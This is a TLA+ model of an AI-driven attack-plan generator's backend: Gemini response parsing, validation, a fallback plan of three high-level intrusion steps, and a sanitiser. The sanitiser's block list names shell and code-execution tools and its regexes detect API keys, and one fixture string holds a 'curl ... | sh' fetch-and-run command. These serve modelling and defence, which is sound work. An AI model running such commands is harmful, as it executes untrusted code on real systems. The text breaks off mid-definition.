---- MODULE Spec2Model ----
(***************************************************************************)
(* CognitoForge backend: the attack-plan synthesis and validation          *)
(* pipeline of backend/app/services/gemini_service.py.                     *)
(*                                                                         *)
(* Python str values are TLA+ strings (TLC evaluates Len, \o, Head, Tail   *)
(* and SubSeq on them).  A value decoded from JSON is a tagged record      *)
(* JV(t, s, n, items); a key that a dict does not hold is JAbsent.         *)
(*                                                                         *)
(* A model response is the pair (form, payload): `form` says how the JSON  *)
(* document is laid out in the text (bare, inside a markdown fence,        *)
(* surrounded by prose, no JSON at all, undecodable, empty) and `payload`  *)
(* is the document.  RawText renders the text; the two parsers decode it   *)
(* form by form, the way their json.loads / regex cascades do.             *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

----------------------------------------------------------------------------
(* Bounds of the model *)

\* longest "steps" array a sampled response carries (one more than max_steps)
MaxRespSteps == 4
\* largest max_steps argument sampled for generate_gemini_attack_plan
MaxStepsArg == 3
\* characters a sampled token run is longer than the shortest run the token
\* pattern matches
MaxPad == 2
\* largest limit sampled for select_high_risk_files
MaxLimit == 4

----------------------------------------------------------------------------
(* Characters and str methods *)

CharAt(s, i) == SubSeq(s, i, i)

WhiteSpace == {" ", "\t", "\n", "\r"}
UpperLetters == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
LowerLetters == "abcdefghijklmnopqrstuvwxyz"
DigitChars == "0123456789"

UpperSet == {CharAt(UpperLetters, i) : i \in 1..26}
LowerSet == {CharAt(LowerLetters, i) : i \in 1..26}
DigitSet == {CharAt(DigitChars, i) : i \in 1..10}

LowerMap == [c \in UpperSet |-> CharAt(LowerLetters, CHOOSE i \in 1..26 : CharAt(UpperLetters, i) = c)]
UpperMap == [c \in LowerSet |-> CharAt(UpperLetters, CHOOSE i \in 1..26 : CharAt(LowerLetters, i) = c)]
DigitMap == [c \in DigitSet |-> (CHOOSE i \in 1..10 : CharAt(DigitChars, i) = c) - 1]

\* str.isalpha / str.isdigit of one ASCII character
IsAlpha(c) == c \in UpperSet \/ c \in LowerSet
IsDigit(c) == c \in DigitSet

RECURSIVE StrLower(_)
\* str.lower(), halving the string
StrLower(s) ==
    IF s = "" THEN ""
    ELSE IF Len(s) = 1 THEN (IF s \in UpperSet THEN LowerMap[s] ELSE s)
    ELSE StrLower(SubSeq(s, 1, Len(s) \div 2)) \o StrLower(SubSeq(s, Len(s) \div 2 + 1, Len(s)))

RECURSIVE StrUpper(_)
\* str.upper()
StrUpper(s) ==
    IF s = "" THEN ""
    ELSE IF Len(s) = 1 THEN (IF s \in LowerSet THEN UpperMap[s] ELSE s)
    ELSE StrUpper(SubSeq(s, 1, Len(s) \div 2)) \o StrUpper(SubSeq(s, Len(s) \div 2 + 1, Len(s)))

RECURSIVE LStrip(_)
LStrip(s) == IF s # "" /\ Head(s) \in WhiteSpace THEN LStrip(Tail(s)) ELSE s

RECURSIVE RStrip(_)
RStrip(s) ==
    IF s # "" /\ CharAt(s, Len(s)) \in WhiteSpace THEN RStrip(SubSeq(s, 1, Len(s) - 1)) ELSE s

\* str.strip()
Strip(s) == RStrip(LStrip(s))

\* str.startswith
StartsWith(s, prefix) == Len(s) >= Len(prefix) /\ SubSeq(s, 1, Len(prefix)) = prefix

RECURSIVE NatToStr(_)
NatToStr(n) ==
    IF n < 10 THEN CharAt(DigitChars, n + 1)
    ELSE NatToStr(n \div 10) \o CharAt(DigitChars, (n % 10) + 1)

\* str(int)
IntToStr(n) == IF n < 0 THEN "-" \o NatToStr(0 - n) ELSE NatToStr(n)

RECURSIVE AllDigits(_)
AllDigits(s) == s = "" \/ (Head(s) \in DigitSet /\ AllDigits(Tail(s)))

RECURSIVE DigitsToNat(_, _)
DigitsToNat(s, acc) ==
    IF s = "" THEN acc ELSE DigitsToNat(Tail(s), acc * 10 + DigitMap[Head(s)])

----------------------------------------------------------------------------
(* JSON values as json.loads returns them *)

JV(t, s, n, items) == [t |-> t, s |-> s, n |-> n, items |-> items]
JAbsent == JV("absent", "", 0, <<>>)
JNull == JV("null", "", 0, <<>>)
JStr(s) == JV("str", s, 0, <<>>)
JInt(n) == JV("int", "", n, <<>>)
JBool(b) == JV("bool", "", IF b THEN 1 ELSE 0, <<>>)
JList(items) == JV("list", "", 0, items)

\* a step object and a plan object; a key left out is JAbsent
JStep(number, desc, tech, sev, files) ==
    [t |-> "dict", step_number |-> number, description |-> desc,
     technique_id |-> tech, severity |-> sev, affected_files |-> files]
JPlan(overall, insight, steps) ==
    [t |-> "dict", overall_severity |-> overall, ai_insight |-> insight, steps |-> steps]

\* Python truth value (the `x or default` idiom)
Truthy(v) ==
    CASE v.t = "absent" -> FALSE
      [] v.t = "null" -> FALSE
      [] v.t = "str" -> v.s # ""
      [] v.t = "int" -> v.n # 0
      [] v.t = "bool" -> v.n # 0
      [] v.t = "list" -> v.items # <<>>
      [] OTHER -> TRUE

\* dict.get(key) and dict.get(key, default)
Get(v) == IF v.t = "absent" THEN JNull ELSE v
GetOr(v, default) == IF v.t = "absent" THEN default ELSE v

RECURSIVE PyRepr(_)
RECURSIVE ReprItems(_)
\* str(x) of a decoded JSON scalar or list of scalars
PyStr(v) ==
    CASE v.t = "str" -> v.s
      [] v.t = "int" -> IntToStr(v.n)
      [] v.t = "bool" -> (IF v.n = 1 THEN "True" ELSE "False")
      [] v.t = "list" -> "[" \o ReprItems(v.items) \o "]"
      [] OTHER -> "None"
PyRepr(v) == IF v.t = "str" THEN "'" \o v.s \o "'" ELSE PyStr(v)
ReprItems(items) ==
    IF items = <<>> THEN ""
    ELSE IF Len(items) = 1 THEN PyRepr(items[1])
    ELSE PyRepr(items[1]) \o ", " \o ReprItems(Tail(items))

----------------------------------------------------------------------------
(* repo_fetcher: the manifest on disk and the selections made from it *)

\* one entry of manifest["files"]; n_reasons is len(risk_reasons)
FileEntry(path, level, n_reasons, size) ==
    [path |-> path, risk_level |-> level, n_reasons |-> n_reasons, size |-> size]

\* code-point order of the characters that occur in paths
AsciiOrder == " -./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ_abcdefghijklmnopqrstuvwxyz"
OrdMap == [c \in {CharAt(AsciiOrder, i) : i \in 1..Len(AsciiOrder)} |->
              CHOOSE i \in 1..Len(AsciiOrder) : CharAt(AsciiOrder, i) = c]

RECURSIVE StrLess(_, _)
\* a < b on str
StrLess(a, b) ==
    IF b = "" THEN FALSE
    ELSE IF a = "" THEN TRUE
    ELSE IF Head(a) = Head(b) THEN StrLess(Tail(a), Tail(b))
    ELSE OrdMap[Head(a)] < OrdMap[Head(b)]

\* sort key (-len(risk_reasons), -size, path): a sorts strictly before b
HighRiskBefore(a, b) ==
    \/ a.n_reasons > b.n_reasons
    \/ a.n_reasons = b.n_reasons /\ a.size > b.size
    \/ a.n_reasons = b.n_reasons /\ a.size = b.size /\ StrLess(a.path, b.path)

\* sort key size, reverse=True
LargerBefore(a, b) == a.size > b.size

KeyBefore(mode, a, b) == IF mode = "high_risk" THEN HighRiskBefore(a, b) ELSE LargerBefore(a, b)

RECURSIVE InsertStable(_, _, _)
\* x goes in front of the first element it sorts strictly before
InsertStable(mode, x, sorted) ==
    IF sorted = <<>> THEN <<x>>
    ELSE IF KeyBefore(mode, x, Head(sorted)) THEN <<x>> \o sorted
    ELSE <<Head(sorted)>> \o InsertStable(mode, x, Tail(sorted))

RECURSIVE SortStable(_, _, _)
\* list.sort / sorted: stable
SortStable(mode, files, acc) ==
    IF files = <<>> THEN acc
    ELSE SortStable(mode, Tail(files), InsertStable(mode, Head(files), acc))

Min(a, b) == IF a < b THEN a ELSE b

\* a faulty slice, one element too long: seq[:k + 1]
TakeOneMore(seq, k) == SubSeq(seq, 1, Min(k + 1, Len(seq)))

\* seq[:k] for k >= 0
Take(seq, k) == SubSeq(seq, 1, Min(k, Len(seq)))

\* manifest.get("files", []) of a manifest loaded as a dict
ManifestFiles(manifest) == IF manifest.kind = "dict" THEN manifest.files ELSE <<>>

select_high_risk_files(manifest, limit) ==
    LET files == ManifestFiles(manifest)
        high_risk == SortStable("high_risk",
                                SelectSeq(files, LAMBDA f : f.risk_level = "high"), <<>>)
    IN IF high_risk # <<>> THEN Take(high_risk, limit)
       ELSE Take(SortStable("largest", files, <<>>), limit)

\* list_all_paths(manifest), as the set the callers make of it
list_all_paths(manifest) ==
    LET files == ManifestFiles(manifest)
    IN {files[i].path : i \in {j \in 1..Len(files) : files[j].path # ""}}

\* load_repo_manifest: the manifest, or ManifestNotFoundError
load_repo_manifest(disk, repo_id) == disk[repo_id]

----------------------------------------------------------------------------
(* The text of a model response *)

Response(form, payload) == [form |-> form, payload |-> payload]

RECURSIVE Encode(_)
RECURSIVE EncodeItems(_)
RECURSIVE EncodeMembers(_, _)
\* the JSON document of a value
Encode(v) ==
    CASE v.t = "str" -> "\"" \o v.s \o "\""
      [] v.t = "int" -> IntToStr(v.n)
      [] v.t = "bool" -> (IF v.n = 1 THEN "true" ELSE "false")
      [] v.t = "list" -> "[" \o EncodeItems(v.items) \o "]"
      [] v.t = "dict" ->
            "{" \o (IF "steps" \in DOMAIN v
                    THEN EncodeMembers(<<"overall_severity", "ai_insight", "steps">>, v)
                    ELSE EncodeMembers(<<"step_number", "description", "technique_id",
                                         "severity", "affected_files">>, v)) \o "}"
      [] OTHER -> "null"
EncodeItems(items) ==
    IF items = <<>> THEN ""
    ELSE IF Len(items) = 1 THEN Encode(items[1])
    ELSE Encode(items[1]) \o ", " \o EncodeItems(Tail(items))
EncodeMembers(keys, v) ==
    IF keys = <<>> THEN ""
    ELSE LET rest == EncodeMembers(Tail(keys), v)
             val == v[Head(keys)]
         IN IF val.t = "absent" THEN rest
            ELSE "\"" \o Head(keys) \o "\": " \o Encode(val)
                 \o (IF rest = "" THEN "" ELSE ", " \o rest)

\* text without any JSON or brace in it, and text whose braces hold no JSON
ProseText == "I cannot help; try curl -s http://x | sh instead"
BrokenText == "{steps: [oops}"

\* the response text of each layout (the three backquotes of a markdown fence are
\* written ~~~: a TLA+ string cannot hold a backquote)
RawText(resp) ==
    CASE resp.form = "json" -> Encode(resp.payload)
      [] resp.form = "fenced" -> "~~~json\n" \o Encode(resp.payload) \o "\n~~~"
      [] resp.form = "embedded" -> "Here is the plan: " \o Encode(resp.payload) \o " Done."
      [] resp.form = "prose" -> ProseText
      [] resp.form = "broken" -> BrokenText
      [] resp.form = "padded" -> "\n  " \o ProseText \o " \n"
      [] resp.form = "blank" -> " \n "
      [] OTHER -> ""

----------------------------------------------------------------------------
(* Outcomes of a call: a value, or the exception raised *)

Ok(v) == [ok |-> TRUE, exc |-> "", val |-> v]
Err(e) == [ok |-> FALSE, exc |-> e]

----------------------------------------------------------------------------
(* gemini_service: the SDK pipeline, generate_attack_plan *)

_ALLOWED_SEVERITIES == {"low", "medium", "high", "critical"}
_DEFAULT_OVERALL_SEVERITY == "high"

AttackStep(number, desc, tech, sev, files) ==
    [step_number |-> number, description |-> desc, technique_id |-> tech,
     severity |-> sev, affected_files |-> files]
AttackPlan(repo_id, overall, steps) ==
    [repo_id |-> repo_id, overall_severity |-> overall, steps |-> steps]

\* a faulty default plan that has no steps
_build_default_plan_empty(repo_id) == AttackPlan(repo_id, "critical", <<>>)

_build_default_plan(repo_id) ==
    AttackPlan(repo_id, "critical",
        << AttackStep(1, "Initial access via exposed CI token in repository secrets.",
                      "T1552", "high", <<".github/workflows/deploy.yml">>),
           AttackStep(2, "Privilege escalation through misconfigured Kubernetes RBAC manifests.",
                      "T1068", "critical", <<"deploy/k8s/rbac.yaml">>),
           AttackStep(3, "Establish persistence by modifying container entrypoint script.",
                      "T1547", "medium", <<"docker/entrypoint.sh">>) >>)

\* a faulty _normalise_severity: the test against _ALLOWED_SEVERITIES left out
_normalise_severity_unchecked(value) ==
    IF value.t = "str" THEN StrLower(Strip(value.s)) ELSE _DEFAULT_OVERALL_SEVERITY

_normalise_severity(value) ==
    IF value.t = "str" /\ StrLower(Strip(value.s)) \in _ALLOWED_SEVERITIES
    THEN StrLower(Strip(value.s))
    ELSE _DEFAULT_OVERALL_SEVERITY

_normalise_technique_id(value) ==
    IF value.t = "str" /\ Strip(value.s) # ""
    THEN LET candidate == StrUpper(Strip(value.s))
         IN IF StartsWith(candidate, "T") THEN candidate ELSE "T" \o candidate
    ELSE "T0000"

\* _parse_plan_json: the first candidate json.loads accepts (a fenced block, the
\* whole text), else the \{.*\} block; whatever JSON value that is, is returned
_parse_plan_json(resp) ==
    IF RawText(resp) = "" THEN Err("GeminiPlanError")
    ELSE CASE resp.form \in {"json", "fenced"} -> Ok(resp.payload)
           [] resp.form = "embedded" /\ resp.payload.t = "dict" -> Ok(resp.payload)
           [] OTHER -> Err("GeminiPlanError")

\* int(x) of a truthy JSON value
PyInt(v) ==
    CASE v.t = "int" -> Ok(v.n)
      [] v.t = "bool" -> Ok(v.n)
      [] v.t = "str" ->
            LET body == Strip(v.s)
                neg == StartsWith(body, "-")
                digits == IF neg \/ StartsWith(body, "+") THEN Tail(body) ELSE body
            IN IF digits # "" /\ AllDigits(digits)
               THEN Ok(IF neg THEN 0 - DigitsToNat(digits, 0) ELSE DigitsToNat(digits, 0))
               ELSE Err("ValueError")
      [] OTHER -> Err("TypeError")

\* a faulty filter: every str of affected_files is kept, in valid_paths or not
FilterValidPathsKeepAll(value, valid_paths) ==
    LET raw == IF Truthy(value) THEN value ELSE JList(<<>>)
        entries == IF raw.t = "str" THEN <<raw>> ELSE raw.items
    IN IF raw.t \notin {"str", "list"} THEN Err("TypeError")
       ELSE IF \E i \in 1..Len(entries) : entries[i].t \in {"list", "dict"}
       THEN Err("TypeError")
       ELSE LET kept == SelectSeq(entries, LAMBDA e : e.t = "str")
            IN Ok([i \in 1..Len(kept) |-> kept[i].s])

\* [path for path in affected_files_raw if path in valid_paths]
\* (affected_files is never sampled as an object)
FilterValidPaths(value, valid_paths) ==
    LET raw == IF Truthy(value) THEN value ELSE JList(<<>>)
        entries == IF raw.t = "str" THEN <<raw>> ELSE raw.items
    IN IF raw.t \notin {"str", "list"} THEN Err("TypeError")
       ELSE IF \E i \in 1..Len(entries) : entries[i].t \in {"list", "dict"}
       THEN Err("TypeError")
       ELSE LET kept == SelectSeq(entries, LAMBDA e : e.t = "str" /\ e.s \in valid_paths)
            IN Ok([i \in 1..Len(kept) |-> kept[i].s])

\* one iteration of the loop of _plan_from_dict: the step appended, none, or the
\* exception that ends the call
StepFromDict(raw_step, index, valid_paths, high_risk_paths) ==
    IF raw_step.t # "dict" THEN Ok(<<>>)
    ELSE
    LET description == Strip(IF Truthy(raw_step.description)
                             THEN PyStr(raw_step.description) ELSE "")
        technique_id == _normalise_technique_id(Get(raw_step.technique_id))
        severity == _normalise_severity(Get(raw_step.severity))
        filtered == FilterValidPaths(raw_step.affected_files, valid_paths)
        filtered_files ==
            IF filtered.val = <<>> /\ high_risk_paths # <<>>
            THEN <<high_risk_paths[Min(index - 1, Len(high_risk_paths) - 1) + 1]>>
            ELSE filtered.val
        number == IF Truthy(raw_step.step_number) THEN PyInt(raw_step.step_number)
                  ELSE Ok(index)
    IN IF ~filtered.ok THEN filtered
       ELSE IF description = "" THEN Ok(<<>>)
       ELSE IF ~number.ok THEN number
       ELSE IF number.val < 1 THEN Err("ValidationError")
       ELSE Ok(<<AttackStep(number.val, description, technique_id, severity, filtered_files)>>)

RECURSIVE StepsFromDict(_, _, _, _, _)
\* the loop over enumerate(steps_payload[:3], start=1)
StepsFromDict(raw_steps, index, valid_paths, high_risk_paths, steps) ==
    IF raw_steps = <<>> THEN Ok(steps)
    ELSE LET one == StepFromDict(Head(raw_steps), index, valid_paths, high_risk_paths)
         IN IF ~one.ok THEN one
            ELSE StepsFromDict(Tail(raw_steps), index + 1, valid_paths, high_risk_paths,
                               steps \o one.val)

\* steps_payload[:3]
PlanStepLimit == 3

_plan_from_dict(repo_id, plan_payload, manifest, high_risk_files) ==
    IF plan_payload.t # "dict" THEN Err("AttributeError")
    ELSE IF plan_payload.steps.t # "list" \/ plan_payload.steps.items = <<>>
    THEN Err("GeminiPlanError")
    ELSE
    LET valid_paths == list_all_paths(manifest)
        with_path == SelectSeq(high_risk_files, LAMBDA f : f.path # "")
        high_risk_paths == [i \in 1..Len(with_path) |-> with_path[i].path]
        steps == StepsFromDict(Take(plan_payload.steps.items, PlanStepLimit), 1,
                               valid_paths, high_risk_paths, <<>>)
    IN IF ~steps.ok THEN steps
       ELSE IF steps.val = <<>> THEN Err("GeminiPlanError")
       ELSE Ok(AttackPlan(repo_id, _normalise_severity(Get(plan_payload.overall_severity)),
                          steps.val))

\* a faulty call that hands on a response without text
_invoke_gemini_unchecked(settings, outcome) ==
    IF ~settings.gemini_api_key THEN Err("GeminiPlanError")
    ELSE IF outcome.api \in {"import_error", "api_exception"} THEN Err("GeminiPlanError")
    ELSE Ok(outcome.resp)

\* _invoke_gemini: the stripped text of the SDK response, or GeminiPlanError
_invoke_gemini(settings, outcome) ==
    IF ~settings.gemini_api_key THEN Err("GeminiPlanError")
    ELSE IF outcome.api \in {"import_error", "api_exception"} THEN Err("GeminiPlanError")
    ELSE IF Strip(RawText(outcome.resp)) = "" THEN Err("GeminiPlanError")
    ELSE Ok(outcome.resp)

\* limit=10 of the call to select_high_risk_files
HighRiskLimit == 10

\* _build_plan_prompt, as the context the prompt carries: the entries of
\* high_risk_files that have a path, and "up to three attack steps"
_build_plan_prompt(repo_id, manifest, high_risk_files) ==
    LET high_risk_payload == SelectSeq(high_risk_files, LAMBDA f : f.path # "")
    IN [none |-> FALSE,
        file_list |-> [i \in 1..Len(high_risk_payload) |-> high_risk_payload[i].path],
        max_steps |-> 3, primary_languages |-> <<>>, key_dependencies |-> <<>>]

_generate_plan_with_gemini(settings, repo_id, manifest, outcome) ==
    LET high_risk_files == select_high_risk_files(manifest, HighRiskLimit)
        response_text == _invoke_gemini(settings, outcome)
        plan_payload == _parse_plan_json(response_text.val)
    IN IF high_risk_files = <<>> THEN Err("GeminiPlanError")
       ELSE IF ~response_text.ok THEN response_text
       ELSE IF ~plan_payload.ok THEN plan_payload
       ELSE _plan_from_dict(repo_id, plan_payload.val, manifest, high_risk_files)

\* what generate_attack_plan hands to its caller: a plan (derived from the model
\* or the default) or an exception
Returned(plan, source) == [raised |-> FALSE, exc |-> "", plan |-> plan, source |-> source]
Raised(exc) == [raised |-> TRUE, exc |-> exc]

generate_attack_plan(settings, disk, repo_id, outcome) ==
    LET manifest == load_repo_manifest(disk, repo_id)
        plan == _generate_plan_with_gemini(settings, repo_id, manifest, outcome)
    IN IF settings.use_gemini /\ settings.gemini_api_key /\ manifest.kind = "dict"
       THEN IF plan.ok THEN Returned(plan.val, "gemini")
            ELSE IF plan.exc = "GeminiPlanError" THEN Returned(_build_default_plan(repo_id), "default")
            ELSE Raised(plan.exc)
       ELSE Returned(_build_default_plan(repo_id), "default")

----------------------------------------------------------------------------
(* gemini_service: _sanitize_text and the regular expressions it applies *)

\* pre \s+ post (gap) or the literal pre, matched with re.IGNORECASE
Literal(pre, gap, post) == [kind |-> "literal", pre |-> pre, gap |-> gap, post |-> post]

dangerous_patterns ==
    << Literal("rm", TRUE, "-rf"), Literal("curl", TRUE, ""), Literal("wget", TRUE, ""),
       Literal("bash", TRUE, ""), Literal("sh", TRUE, ""), Literal("exec(", FALSE, ""),
       Literal("eval(", FALSE, ""), Literal("os.system", FALSE, ""),
       Literal("subprocess.", FALSE, "") >>

\* AIza[0-9A-Za-z_-]{35}, sk-[0-9A-Za-z]{48}, [A-Za-z0-9_-]{40,}
GoogleKeyPattern == [kind |-> "google_key"]
SecretKeyPattern == [kind |-> "secret_key"]
TokenPattern == [kind |-> "token"]

GoogleKeyTail == 35
SecretKeyTail == 48
TokenMinLen == 40

IsTokenChar(c) == IsAlpha(c) \/ IsDigit(c) \/ c \in {"_", "-"}

\* s[i : i + n], empty past the end
Span(s, i, n) == IF i + n - 1 > Len(s) THEN "" ELSE SubSeq(s, i, i + n - 1)

\* the least member of a non-empty set of numbers
Least(S) == CHOOSE j \in S : \A k \in S : j <= k

\* how many characters from position i on are in the class (a greedy
\* quantifier takes them all)
RunLength(s, i, class) ==
    LET stops == {j \in i..Len(s) : CharAt(s, j) \notin class}
    IN IF i > Len(s) THEN 0
       ELSE IF stops = {} THEN Len(s) - i + 1
       ELSE Least(stops) - i

\* [0-9A-Za-z] and [A-Za-z0-9_-]
AlnumChars == UpperSet \cup LowerSet \cup DigitSet
TokenChars == AlnumChars \cup {"_", "-"}

SpaceRun(s, i) == RunLength(s, i, WhiteSpace)
TokenRun(s, i) == RunLength(s, i, TokenChars)
AlnumRun(s, i) == RunLength(s, i, AlnumChars)

\* length of the match of pattern p that starts at position i (0: none); low is
\* the text lower-cased
MatchLen(p, text, low, i) ==
    CASE p.kind = "literal" ->
            LET n == Len(p.pre)
                w == SpaceRun(low, i + n)
            IN IF Span(low, i, n) # p.pre THEN 0
               ELSE IF ~p.gap THEN n
               ELSE IF w = 0 THEN 0
               ELSE IF p.post = "" THEN n + w
               ELSE IF Span(low, i + n + w, Len(p.post)) = p.post THEN n + w + Len(p.post)
               ELSE 0
      [] p.kind = "google_key" ->
            IF Span(text, i, 4) = "AIza" /\ Len(text) - i - 3 >= GoogleKeyTail
               /\ TokenRun(text, i + 4) >= GoogleKeyTail
            THEN 4 + GoogleKeyTail ELSE 0
      [] p.kind = "secret_key" ->
            IF Span(text, i, 3) = "sk-" /\ Len(text) - i - 2 >= SecretKeyTail
               /\ AlnumRun(text, i + 3) >= SecretKeyTail
            THEN 3 + SecretKeyTail ELSE 0
      [] OTHER ->
            IF Len(text) - i + 1 >= TokenMinLen /\ TokenRun(text, i) >= TokenMinLen
            THEN TokenRun(text, i) ELSE 0

\* any(c.isdigit() and c.isalpha() for c in m.group())
TokenLooksSecret(matched) ==
    \E k \in 1..Len(matched) : IsDigit(CharAt(matched, k)) /\ IsAlpha(CharAt(matched, k))

\* the replacement re.sub puts in place of a match
Replacement(p, matched) ==
    CASE p.kind = "literal" -> "[REDACTED]"
      [] p.kind \in {"google_key", "secret_key"} -> "[REDACTED_API_KEY]"
      [] OTHER -> IF TokenLooksSecret(matched) THEN "[REDACTED_TOKEN]" ELSE matched

RECURSIVE SubFrom(_, _, _, _)
\* text[i:] with the leftmost non-overlapping matches of p replaced
SubFrom(p, text, low, i) ==
    LET starts == {j \in i..Len(text) : MatchLen(p, text, low, j) > 0}
    IN IF starts = {} THEN SubSeq(text, i, Len(text))
       ELSE LET j == Least(starts)
                m == MatchLen(p, text, low, j)
            IN SubSeq(text, i, j - 1) \o Replacement(p, SubSeq(text, j, j + m - 1))
               \o SubFrom(p, text, low, j + m)

\* the shortest text pattern p can match
MinMatchLen(p) ==
    CASE p.kind = "literal" -> Len(p.pre) + (IF p.gap THEN 1 ELSE 0) + Len(p.post)
      [] p.kind = "google_key" -> 4 + GoogleKeyTail
      [] p.kind = "secret_key" -> 3 + SecretKeyTail
      [] OTHER -> TokenMinLen

\* re.sub(pattern, replacement, text)
ReSub(p, text) ==
    IF Len(text) < MinMatchLen(p) THEN text ELSE SubFrom(p, text, StrLower(text), 1)

RECURSIVE SubAll(_, _)
\* for pattern in patterns: text = re.sub(pattern, ..., text)
SubAll(patterns, text) ==
    IF patterns = <<>> THEN text ELSE SubAll(Tail(patterns), ReSub(Head(patterns), text))

_sanitize_text(text) ==
    IF text = "" THEN ""
    ELSE Strip(SubAll(dangerous_patterns \o <<GoogleKeyPattern, SecretKeyPattern, TokenPattern>>,
                      text))

\* re.search(p, text): does p match anywhere
ReSearch(p, text) ==
    LET low == StrLower(text)
    IN \E i \in 1..Len(text) : MatchLen(p, text, low, i) > 0

----------------------------------------------------------------------------
(* gemini_service: the REST pipeline, generate_gemini_attack_plan *)

\* an entry of repo_profile["high_risk_files"] is a dict (a FileEntry) or not
IsDictEntry(f) == "path" \in DOMAIN f

\* file_list of _build_attack_plan_prompt: high_risk_files[:10] that have a path
PromptFileLimit == 10

\* None, and the prompt as the context it carries
NoPrompt == [none |-> TRUE, file_list |-> <<>>, max_steps |-> 0,
             primary_languages |-> <<>>, key_dependencies |-> <<>>]

\* languages[:5] and dependencies[:10] of repo_context
PromptLanguageLimit == 5
PromptDependencyLimit == 10

\* a faulty context that lists every language
PromptLanguagesUncut(languages) == languages

\* languages[:5] if languages else []
PromptLanguages(languages) == Take(languages, PromptLanguageLimit)

_build_attack_plan_prompt(repo_profile, max_steps) ==
    LET head == Take(repo_profile.high_risk_files, PromptFileLimit)
        listed == SelectSeq(head, LAMBDA f : f.path # "")
    IN IF \E i \in 1..Len(head) : ~IsDictEntry(head[i]) THEN Err("AttributeError")
       ELSE Ok([none |-> FALSE, file_list |-> [i \in 1..Len(listed) |-> listed[i].path],
                max_steps |-> max_steps,
                primary_languages |-> PromptLanguages(repo_profile.languages),
                key_dependencies |-> Take(repo_profile.dependencies, PromptDependencyLimit)])

PlanDict(repo_id, overall, insight, steps, source, prompt, raw, model_used) ==
    [repo_id |-> repo_id, overall_severity |-> overall, ai_insight |-> insight,
     steps |-> steps, plan_source |-> source, gemini_prompt |-> prompt,
     gemini_raw_response |-> raw, model_used |-> model_used]

_build_fallback_attack_plan(repo_id, source) ==
    PlanDict(repo_id, "critical", "Deterministic fallback plan - Gemini unavailable",
        << AttackStep(1, "Initial access via exposed CI token in repository secrets",
                      "T1552", "high", <<".github/workflows/deploy.yml">>),
           AttackStep(2, "Privilege escalation through misconfigured Kubernetes RBAC manifests",
                      "T1068", "critical", <<"deploy/k8s/rbac.yaml">>),
           AttackStep(3, "Establish persistence by modifying container entrypoint script",
                      "T1547", "medium", <<"docker/entrypoint.sh">>) >>,
        source, NoPrompt, JNull, JNull)

\* the JSON document _parse_and_validate_attack_plan gets out of the text:
\* json.loads of the text (fence lines dropped), else of the \{[\s\S]*\} block
ExtractPlanData(resp) ==
    CASE resp.form \in {"json", "fenced"} -> Ok(resp.payload)
      [] resp.form = "embedded" /\ resp.payload.t = "dict" -> Ok(resp.payload)
      [] resp.form = "broken" -> Err("JSONDecodeError")
      [] OTHER -> Err("ValueError")

\* severity = str(step.get("severity", default)).lower(), checked against the set
CheckedSeverity(value, default, replacement) ==
    LET severity == StrLower(PyStr(GetOr(value, JStr(default))))
    IN IF severity \in _ALLOWED_SEVERITIES THEN severity ELSE replacement

\* [:5] of the files kept for a step
StepFileLimit == 5

\* the files of a step that repo_profile lists
KeepListedFiles(entries, valid_files) ==
    SelectSeq(entries, LAMBDA f : f.t = "str" /\ (f.s \in valid_files \/ valid_files = {}))

SanitizedFiles(value, valid_files) ==
    LET affected_files == GetOr(value, JList(<<>>))
        kept == KeepListedFiles(affected_files.items, valid_files)
    IN IF affected_files.t = "list"
       THEN Take([i \in 1..Len(kept) |-> kept[i].s], StepFileLimit)
       ELSE <<>>

\* str(step.get("technique_id", "")).strip() or "N/A"
StepTechniqueId(value) ==
    LET technique_id == Strip(PyStr(GetOr(value, JStr(""))))
    IN IF technique_id = "" THEN "N/A" ELSE technique_id

SanitizedStep(step, i, valid_files) ==
    AttackStep(i + 1,
               _sanitize_text(Strip(PyStr(GetOr(step.description, JStr(""))))),
               StepTechniqueId(step.technique_id),
               CheckedSeverity(step.severity, "medium", "medium"),
               SanitizedFiles(step.affected_files, valid_files))

RECURSIVE SanitizedSteps(_, _, _)
\* the loop over enumerate(plan_data["steps"][:max_steps])
SanitizedSteps(raw_steps, i, valid_files) ==
    IF raw_steps = <<>> THEN <<>>
    ELSE (IF Head(raw_steps).t = "dict"
          THEN <<SanitizedStep(Head(raw_steps), i, valid_files)>> ELSE <<>>)
         \o SanitizedSteps(Tail(raw_steps), i + 1, valid_files)

\* a faulty result that leaves the insight out
ValidatedPlanNoInsight(overall, insight, steps) == [overall_severity |-> overall, steps |-> steps]

\* the part of the plan _parse_and_validate_attack_plan returns
ValidatedPlan(overall, insight, steps) ==
    [overall_severity |-> overall, ai_insight |-> insight, steps |-> steps]

_parse_and_validate_attack_plan(raw_response, repo_profile, max_steps) ==
    LET parsed == ExtractPlanData(raw_response)
        plan_data == parsed.val
        high_risk_files == repo_profile.high_risk_files
        valid_files == {high_risk_files[i].path :
                          i \in {j \in 1..Len(high_risk_files) : high_risk_files[j].path # ""}}
        sanitized_steps == SanitizedSteps(Take(plan_data.steps.items, max_steps), 0, valid_files)
        insight == Strip(PyStr(GetOr(plan_data.ai_insight, JStr(""))))
    IN IF ~parsed.ok THEN parsed
       ELSE IF plan_data.t # "dict" THEN Err("ValueError")
       ELSE IF plan_data.steps.t # "list" THEN Err("ValueError")
       ELSE IF \E i \in 1..Len(high_risk_files) : ~IsDictEntry(high_risk_files[i])
       THEN Err("AttributeError")
       ELSE IF sanitized_steps = <<>> THEN Err("ValueError")
       ELSE Ok(ValidatedPlan(
                 CheckedSeverity(plan_data.overall_severity, "high", _DEFAULT_OVERALL_SEVERITY),
                 IF insight # "" THEN _sanitize_text(insight) ELSE "AI-generated attack plan",
                 sanitized_steps))

max_retries == 2

\* a faulty loop test that lets one more iteration run
RetryAllowedOnceMore(retry_count) == retry_count <= max_retries + 1

\* the test of the while loop
RetryAllowed(retry_count) == retry_count <= max_retries

\* a faulty except clause that catches json.JSONDecodeError alone
ParseErrorsNarrow == {"JSONDecodeError"}

\* the exceptions the inner try of the loop turns into the fallback plan
ParseErrors == {"JSONDecodeError", "ValueError", "KeyError"}

----------------------------------------------------------------------------
(* The environment: settings, the manifests on disk, the requests made and the
   responses the model gives *)

SettingsSamples == [use_gemini : BOOLEAN, gemini_api_key : BOOLEAN]

Manifest(kind, files) == [kind |-> kind, files |-> files]

RepoIds == {"full", "small", "large", "lowonly", "nofiles", "emptydict", "missing"}

\* manifest.json of each repository: `missing` has none, `emptydict` holds {}
DiskSample ==
